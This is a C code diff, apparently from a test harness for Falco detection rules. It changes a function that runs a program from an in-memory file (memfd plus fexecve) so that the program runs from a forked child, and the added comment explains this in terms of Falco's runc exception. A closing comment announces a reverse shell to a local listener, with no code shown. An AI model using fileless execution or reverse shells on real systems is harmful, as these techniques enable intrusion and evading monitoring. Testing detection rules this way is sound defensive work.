@@ -78,8 +78,16 @@ static int memfd_exec(char **argv) {
     if (write(memfd, buffer, count) != count) return fail("write memfd");
   }
   close(source);
-  fexecve(memfd, argv, environ);
-  return fail("fexecve");
+  /* Run from a child: exec'd straight from a podman exec, the program's parent would be runc,
+   * which Falco's rule lists as a known memfd user. */
+  pid_t child = fork();
+  if (child == 0) {
+    fexecve(memfd, argv, environ);
+    _exit(fail("fexecve"));
+  }
+  int status = 0;
+  waitpid(child, &status, 0);
+  return WIFEXITED(status) ? WEXITSTATUS(status) : 1;
 }
 
 /* A reverse shell to a listener of our own on 127.0.0.1: dup2 the socket onto 0, 1, 2. */
